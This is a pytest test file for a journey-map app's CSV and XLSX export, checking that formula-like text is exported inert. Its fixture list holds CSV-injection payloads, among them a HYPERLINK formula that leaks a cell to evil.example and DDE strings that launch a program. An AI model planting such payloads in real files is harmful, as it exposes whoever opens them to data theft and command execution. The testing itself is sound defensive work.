"""CSV injection: text that a spreadsheet would run as a formula is exported inert. In CSV a
cell beginning with =, +, -, @, a tab or a carriage return gets an apostrophe in front (OWASP);
reading the file back removes it. In XLSX such text is a string cell, never a formula."""

from __future__ import annotations

import csv

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from jmap_desktop.export.csv_export import export_csv
from jmap_desktop.export.xlsx_export import export_xlsx
from jmap_desktop.io.formula_guard import TRIGGERS, guard, unguard
from jmap_desktop.io.table_import import plan_import
from jmap_desktop.io.table_read import read_table
from jmap_desktop.model import JourneyMap
from tests.factories import small_map

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "+SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=already quoted", "-",
           "=", "- a dash list item"]


def hostile_map() -> JourneyMap:
    doc = small_map()
    template = doc.cards[0]
    doc.cards = [template.model_copy(update={"id": f"h{i}", "order": i, "text": text, "tags": [],
                                             "owner": "", "emotion": None})
                 for i, text in enumerate(HOSTILE)]
    doc.cards[0].tags = ["=tag", "plain"]
    doc.cards[0].owner = "@owner"
    doc.cards[2].emotion = -1.0  # a plain negative number stays a number
    doc.stages[0].name = "=Stage"
    return doc


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(tmp_path):
    doc = hostile_map()
    path = tmp_path / "cards.csv"
    export_csv(doc, path)
    rows = _rows(path)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(TRIGGERS) or value.lstrip("-+").replace(".", "").isdigit(), \
                f"{column}: {value!r} would run as a formula"
    by_id = {row["id"]: row for row in rows}
    first = doc.cards[0]
    assert by_id[first.id]["text"] == "'" + first.text
    assert by_id[first.id]["tags"] == "'=tag, plain" and by_id[first.id]["owner"] == "'@owner"
    assert by_id[first.id]["stage"] == "'=Stage"
    assert by_id[doc.cards[2].id]["emotion"] == "-1"


def test_an_exported_csv_imports_back_to_the_very_same_text(tmp_path):
    doc = hostile_map()
    path = tmp_path / "cards.csv"
    export_csv(doc, path)
    plan = plan_import(JourneyMap(), read_table(path))
    assert not plan.problems
    by_id = {c.id: c for c in plan.new_cards}
    for card in doc.cards:
        assert by_id[card.id].text == card.text.strip()  # import trims whitespace, as from any table
        assert by_id[card.id].tags == card.tags and by_id[card.id].owner == card.owner
    assert "=Stage" in plan.stage_names.values()
    doc.cards = [c for c in doc.cards if c.text == c.text.strip()]
    export_csv(doc, path)
    assert plan_import(doc, read_table(path)).summary.startswith("0 new, 0 updated")


def test_xlsx_stores_formula_like_text_as_strings(tmp_path):
    doc = hostile_map()
    path = tmp_path / "map.xlsx"
    export_xlsx(doc, path)
    workbook = openpyxl.load_workbook(path)
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    cards = workbook["Cards"]
    column = [c.value for c in cards[1]].index("text") + 1
    exported = {cards.cell(r, column).value for r in range(2, cards.max_row + 1)}
    assert {c.text for c in doc.cards} <= exported  # unchanged: no apostrophes in XLSX


@given(st.text(max_size=12))
def test_guard_is_undone_exactly_and_leaves_no_formula(text):
    guarded = guard(text)
    assert unguard(guarded) == text
    if guarded.startswith(TRIGGERS):
        float(guarded)  # only a plain number may start like a formula
